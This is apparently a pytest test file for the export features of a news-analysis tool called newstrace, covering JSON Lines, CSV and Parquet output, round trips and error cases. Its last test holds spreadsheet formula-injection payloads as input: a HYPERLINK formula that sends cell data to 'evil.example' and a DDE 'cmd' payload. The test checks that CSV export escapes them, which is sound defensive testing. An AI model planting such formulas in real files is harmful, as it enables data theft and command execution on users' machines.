"""Export: JSON Lines round trip into a new store, CSV, Parquet, stdout, and errors."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from newstrace.export import COLUMNS
from newstrace.store import open_store

HTML = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Ferry fares to rise in June | Island Post</title>
<meta property="og:title" content="Ferry fares to rise in June">
<meta property="og:site_name" content="Island Post">
<meta name="author" content="Jonas Berg">
<meta property="article:published_time" content="2024-02-14T07:00:00Z">
<link rel="canonical" href="https://islandpost.example/ferry-fares">
</head><body>
<nav><a href="/">Home</a> | <a href="/local">Local</a> | <a href="/subscribe">Subscribe</a></nav>
<article><h1>Ferry fares to rise in June</h1>
<p>Ferry fares between the mainland and the islands will rise by eight percent in June, the
operator said on Wednesday, blaming higher fuel and staff costs.</p>
<p>Season tickets for residents will be frozen at this year's price, a concession the island
councils had asked for after a winter of cancelled sailings.</p>
<p>The operator also said two of its oldest vessels would be replaced by 2027, and that a new
timetable with earlier morning crossings would start in the autumn.</p>
<p>Passenger groups said the rise was hard to accept while reliability remained poor.</p>
</article>
<footer>Copyright 2024 Island Post | Privacy | Terms</footer>
</body></html>
"""

TRICKY = ("Prices, \"fees\" and 'charges', rose.\nA second line, with a comma;\r\nand a CRLF."
          "\n\n\u201cQuoted\u201d \u2014 with\u00a0NBSP,  double  spaces and a tab\there."
          "\n\nUnicode line\u2028separators\u2029and a NEL\x85too.")


@pytest.fixture
def corpus(tmp_path: Path) -> list[Path]:
    d = tmp_path / "corpus"
    d.mkdir()
    (d / "a.txt").write_text("Town hall roof repaired, at last\n\nThe town hall roof, damaged "
                             "in the January storm, has been repaired, the council said on "
                             "Friday.\n\nThe work cost \u00a3120,000.\n", encoding="utf-8")
    (d / "b.html").write_text(HTML, encoding="utf-8")
    # metadata read from the text (dateline, agencies) and guessed (outlet, language)
    (d / "d.txt").write_text("Quake shakes coast\n\nLIMA, Peru (AP) \u2014 A strong earthquake "
                             "shook the coast on Monday, officials told Reuters. Buildings in "
                             "the capital swayed for about a minute.\n", encoding="utf-8")
    recs = [
        {"id": "wire-17", "title": "Port strike: \"talks resume\", union says", "text": TRICKY,
         "url": "https://wire.example/17", "published": "2024-03-01T10:00:00Z",
         "source": "Wire Service", "authors": ["Ann Lee", "Bo Chan"], "lang": "en"},
        {"headline": "Library opens on Sundays",
         "body": "The central library will open on Sundays from May, the city said.",
         "date": "2024-04-20", "outlet": "City Paper", "author": "Cara Diaz"},
    ]
    (d / "c.jsonl").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in recs),
                               encoding="utf-8")
    return [d / "a.txt", d / "b.html", d / "c.jsonl", d / "d.txt"]


@pytest.fixture
def store_db(tmp_path: Path, db: Path, cli, corpus) -> Path:
    rc, _, err = cli("ingest", *corpus, "--db", db, "-q")
    assert rc == 0, err
    return db


def articles(db: Path) -> dict:
    with open_store(db, readonly=True) as store:
        return {a.id: a for a in store.iter_articles()}


def container(art, name: str) -> set[str]:
    return {m.value for m in art.meta if m.field == name and m.source == "container"}


def test_jsonl_export_reingests_as_the_same_articles(tmp_path, store_db, cli):
    out = tmp_path / "export.jsonl"
    rc, _, err = cli("export", "--db", store_db, "--format", "jsonl", "--out", out)
    assert rc == 0 and "exported 5 articles" in err
    assert not list(tmp_path.glob("*.tmp"))
    lines = out.read_text(encoding="utf-8").rstrip("\n").split("\n")
    assert len(lines) == 5

    new_db = tmp_path / "second" / "new.db"
    rc, res, err = cli("ingest", out, "--db", new_db, "--json")
    assert rc == 0, err
    assert json.loads(res)["new"] == 5

    before, after = articles(store_db), articles(new_db)
    assert set(after) == set(before)
    for aid, a in before.items():
        b = after[aid]
        assert b.title == a.title and b.body == a.body  # byte-for-byte
        assert (b.norm_title, b.norm_body) == (a.norm_title, a.norm_body)
        for name in ("published", "outlet", "url", "author"):
            assert container(a, name) == container(b, name), (aid, name)
            assert a.first(name) == b.first(name), (aid, name)
        # every metadata value, with its provenance and evidence, is kept as it was
        assert b.meta == a.meta, aid
        # where it was first read is kept too
        assert b.origin is not None and a.origin is not None
        assert b.origin.path == a.origin.path

    wire = next(a for a in after.values() if a.title.startswith("Port strike"))
    assert wire.body == TRICKY
    assert container(wire, "author") == {"Ann Lee", "Bo Chan"}
    assert container(wire, "url") == {"https://wire.example/17"}
    assert container(wire, "outlet") == {"Wire Service"}
    assert container(wire, "published") == {"2024-03-01T10:00:00Z"}
    assert container(wire, "external_id") == {"wire-17"}
    quake = next(a for a in after.values() if a.title == "Quake shakes coast")
    assert not any(m.source == "container" for m in quake.meta)  # a guess stays a guess
    assert {(m.field, m.source) for m in quake.meta} >= {("dateline", "text"),
                                                         ("agency", "text")}
    html = next(a for a in after.values() if a.title == "Ferry fares to rise in June")
    assert container(html, "outlet") == {"Island Post"}
    assert container(html, "published") == {"2024-02-14"}
    assert container(html, "url") == {"https://islandpost.example/ferry-fares"}

    # the export of the new store is the same as the first one
    again = tmp_path / "again.jsonl"
    rc, _, _ = cli("export", "--db", new_db, "--out", again)
    assert rc == 0
    first = [json.loads(x) for x in lines]
    second = [json.loads(x)
              for x in again.read_text(encoding="utf-8").rstrip("\n").split("\n")]
    keys = ("id", "path", "title", "text", "url", "published", "outlet", "author")
    assert [{k: r[k] for k in keys} for r in first] == [{k: r[k] for k in keys} for r in second]


def test_export_names_where_an_article_was_first_read(tmp_path, db, cli):
    text = "Bridge reopens\n\nThe bridge reopened to traffic on Sunday after repairs.\n"
    (tmp_path / "z.txt").write_text(text)
    (tmp_path / "a.txt").write_text(text)
    for name in ("z.txt", "a.txt"):  # read from z.txt first, then seen again in a.txt
        rc, _, _ = cli("ingest", tmp_path / name, "--db", db, "-q")
        assert rc == 0
    rc, out, _ = cli("export", "--db", db)
    [row] = [json.loads(x) for x in out.rstrip("\n").split("\n")]
    assert row["path"] == str(tmp_path / "z.txt")
    assert sorted(s["path"] for s in row["seen_in"]) == [str(tmp_path / "a.txt"),
                                                         str(tmp_path / "z.txt")]
    with open_store(db, readonly=True) as store:
        assert store.get_article(row["id"]).origin.path == row["path"]


def test_edited_export_record_is_read_afresh(tmp_path, store_db, cli):
    rc, out, _ = cli("export", "--db", store_db)
    rows = [json.loads(x) for x in out.rstrip("\n").split("\n")]
    wire = next(r for r in rows if r["title"].startswith("Port strike"))
    wire["text"] = "EDITED. " + wire["text"]  # the stored offsets no longer fit this text
    wire["outlet"] = "Corrected Outlet"
    f = tmp_path / "edited.jsonl"
    f.write_text(json.dumps(wire, ensure_ascii=False) + "\n", encoding="utf-8")
    new_db = tmp_path / "edited.db"
    rc, _, err = cli("ingest", f, "--db", new_db, "-q")
    assert rc == 0, err
    [art] = articles(new_db).values()
    assert art.id != wire["id"] and art.body.startswith("EDITED. ")
    # read from the record's fields, not from the exported metadata list
    assert container(art, "outlet") == {"Corrected Outlet"}
    assert container(art, "author") == {"Ann Lee", "Bo Chan"}


def test_csv_export_columns_and_text_intact(tmp_path, store_db, cli):
    out = tmp_path / "export.csv"
    rc, _, _ = cli("export", "--db", store_db, "--format", "csv", "--out", out)
    assert rc == 0
    with open(out, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        assert reader.fieldnames == list(COLUMNS) == [
            "id", "path", "line", "url", "title", "text", "published", "outlet", "language",
            "author", "dateline", "agency", "metadata", "event", "copy_group", "spin_score",
            "spun", "sources"]
        rows = list(reader)
    before = articles(store_db)
    assert len(rows) == len(before) == 5
    assert [r["id"] for r in rows] == sorted(before)  # one row per article, in id order
    for r in rows:
        a = before[r["id"]]
        assert r["title"] == a.title and r["text"] == a.body
        meta = json.loads(r["metadata"])
        assert [m["value"] for m in meta] == [m.value for m in a.meta]
    wire = next(r for r in rows if r["title"].startswith("Port strike"))
    assert wire["text"] == TRICKY and wire["title"] == "Port strike: \"talks resume\", union says"
    assert wire["author"].split("; ")[:2] == ["Ann Lee", "Bo Chan"]
    assert wire["line"] == "1" and wire["path"].endswith("c.jsonl")
    assert wire["url"] == "https://wire.example/17"


def test_parquet_export_reads_back(tmp_path, store_db, cli):
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "export.parquet"
    rc, _, _ = cli("export", "--db", store_db, "--format", "parquet", "--out", out)
    assert rc == 0
    table = pq.read_table(out)
    assert table.column_names == list(COLUMNS)
    data = table.to_pylist()
    before = articles(store_db)
    assert [r["id"] for r in data] == sorted(before)
    for r in data:
        assert r["title"] == before[r["id"]].title and r["text"] == before[r["id"]].body
    assert any(r["text"] == TRICKY for r in data)


def test_parquet_export_needs_a_file(store_db, cli):
    rc, out, err = cli("export", "--db", store_db, "--format", "parquet")
    assert rc == 1 and "parquet output needs --out FILE" in err and out == ""


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_to_stdout(store_db, cli, fmt):
    rc, out, err = cli("export", "--db", store_db, "--format", fmt, "--out", "-")
    assert rc == 0 and "Traceback" not in err
    before = articles(store_db)
    if fmt == "jsonl":
        rows = [json.loads(line) for line in out.rstrip("\n").split("\n")]
    else:
        rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert {r["id"]: (r["title"], r["text"]) for r in rows} == {
        i: (a.title, a.body) for i, a in before.items()}
    # the default output is stdout as well
    rc, out2, _ = cli("export", "--db", store_db, "--format", fmt)
    assert rc == 0 and out2 == out


def test_export_from_a_missing_store_is_an_error(tmp_path, cli):
    missing = tmp_path / "nowhere" / "none.db"
    for fmt in ("jsonl", "csv"):
        rc, out, err = cli("export", "--db", missing, "--format", fmt,
                           "--out", tmp_path / "x.out")
        assert rc == 1
        assert err.startswith("newstrace: error: ") and str(missing) in err
        assert "no store" in err and "Traceback" not in err
        assert out == ""
    assert not missing.exists() and not missing.parent.exists()
    assert not (tmp_path / "x.out").exists()


# -- the analysis tables, over the analysed examples -------------------------------------------

SEED_000, SEED_003, REPRINT = ("examples/seeds/000_4939783a04e9bdd2.txt",
                               "examples/seeds/003_8eb8f662f504325c.txt",
                               "examples/reprints/daily-reprint-network.html")


@pytest.fixture(scope="module")
def analysed(tmp_path_factory: pytest.TempPathFactory, build_examples) -> tuple[Path, dict]:
    db = tmp_path_factory.mktemp("analysed") / "examples.db"
    return db, build_examples(db)


def _jsonl(cli, db: Path, table: str) -> list[dict]:
    rc, out, _ = cli("export", "--db", db, "--table", table)
    assert rc == 0
    return [json.loads(line) for line in out.splitlines()]


def test_articles_carry_what_the_analyses_found(analysed, cli):
    db, ids = analysed
    rows = {r["id"]: r for r in _jsonl(cli, db, "articles")}
    with open_store(db, readonly=True) as store:
        event_of = store.event_of()
        link = store.reuse_links(ids[REPRINT])[0]  # the reprint and the article it reprints
    assert rows[ids[SEED_003]]["spun"] is True and rows[ids[SEED_000]]["spun"] is False
    assert rows[ids[SEED_000]]["event"] == rows[ids[SEED_003]]["event"] == event_of[ids[SEED_000]]
    assert rows[link.copy]["sources"][0] == {"id": link.source, "relation": link.relation,
                                             "score": round(link.score, 4)}
    assert rows[ids[REPRINT]]["copy_group"] is not None
    assert all(0 <= r["spin_score"] <= 1 for r in rows.values())


def test_events_cover_every_article_once(analysed, cli):
    db, _ = analysed
    events = _jsonl(cli, db, "events")
    members = [a for e in events for a in e["articles"]]
    with open_store(db, readonly=True) as store:
        assert sorted(members) == sorted(store.article_ids())
    assert [e["id"] for e in events] == sorted(e["id"] for e in events)
    assert all(e["first_report"] in e["articles"] for e in events)


def test_fact_rows_point_into_the_articles(analysed, cli, tmp_path):
    db, ids = analysed
    out = tmp_path / "facts.csv"
    rc, _, _ = cli("export", "--db", db, "--table", "facts", "--format", "csv", "--out", out)
    assert rc == 0
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    prisoners = [r for r in rows if r["key"] == "escaped / prisoner"]
    assert {r["article"] for r in prisoners} == {ids[SEED_000], ids[SEED_003]}
    assert {r["status"] for r in prisoners} == {"conflict"}
    with open_store(db, readonly=True) as store:
        bodies = store.bodies(sorted({r["article"] for r in rows}))
    for r in rows:
        if r["start"]:  # the span holds the value's words (a quotation's, trimmed)
            span = bodies[r["article"]][0][int(r["start"]):int(r["end"])]
            assert " ".join(span.split()) == " ".join(r["text"].split())


def test_reuse_table_in_parquet(analysed, cli, tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    db, ids = analysed
    out = tmp_path / "reuse.parquet"
    rc, _, err = cli("export", "--db", db, "--table", "reuse", "--format", "parquet", "--out", out)
    assert rc == 0 and "reuse links" in err
    table = pq.read_table(out)
    with open_store(db, readonly=True) as store:
        assert table.num_rows == store.count_reuse_links()
    assert str(table.schema.field("score").type) == "double"
    pairs = list(zip(table.column("copy").to_pylist(), table.column("source").to_pylist()))
    at = next(i for i, p in enumerate(pairs) if ids[REPRINT] in p)
    assert table.column("relation").to_pylist()[at] in ("verbatim", "near_copy")
    assert isinstance(json.loads(table.column("substitution_table").to_pylist()[at]), list)


@pytest.mark.parametrize("table", ["articles", "events", "reuse", "facts"])
def test_every_table_in_every_format(analysed, cli, tmp_path, table):
    pytest.importorskip("pyarrow.parquet")
    db, _ = analysed
    counts = []
    for fmt in ("jsonl", "csv", "parquet"):
        out = tmp_path / f"{table}.{fmt}"
        rc, _, err = cli("export", "--db", db, "--table", table, "--format", fmt, "--out", out)
        assert rc == 0, err
        counts.append(int(err.split()[1]))
    assert len(set(counts)) == 1 and counts[0] > 0


def test_export_to_a_folder_is_refused_and_leaves_nothing(store_db, cli, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    rc, _, err = cli("export", "--db", store_db, "--out", folder)
    assert rc == 1 and "is a folder" in err
    assert not (tmp_path / "out.tmp").exists()


def test_analyze_into_a_file_is_refused_before_anything_is_stored(tmp_path, cli):
    (tmp_path / "report").write_text("not a folder", encoding="utf-8")
    art = tmp_path / "a.txt"
    art.write_text("A title\n\nSome body words here.", encoding="utf-8")
    rc, _, err = cli("analyze", art, "--db", tmp_path / "s.db", "--out", tmp_path / "report")
    assert rc == 1 and "is a file" in err
    assert not (tmp_path / "s.db").exists()


def test_csv_cells_cannot_be_spreadsheet_formulas(tmp_path, cli):
    src = tmp_path / "hostile.jsonl"
    src.write_text(json.dumps({"title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
                               "text": "Body words of a hostile article, long enough.",
                               "outlet": "+cmd|' /C calc'!A0", "author": "@SUM(1+1)"}) + "\n",
                   encoding="utf-8")
    db = tmp_path / "s.db"
    assert cli("ingest", src, "--db", db)[0] == 0
    out = tmp_path / "x.csv"
    assert cli("export", "--db", db, "--format", "csv", "--out", out)[0] == 0
    with open(out, newline="", encoding="utf-8") as fh:
        row = next(csv.DictReader(fh))
    assert row["title"].startswith("'=HYPERLINK(")
    assert row["outlet"] == "'+cmd|' /C calc'!A0" and row["author"] == "'@SUM(1+1)"
    # JSON Lines keep the text as it is (it is data, not a sheet)
    rc, text, _ = cli("export", "--db", db)
    assert json.loads(text)["title"].startswith("=HYPERLINK(")
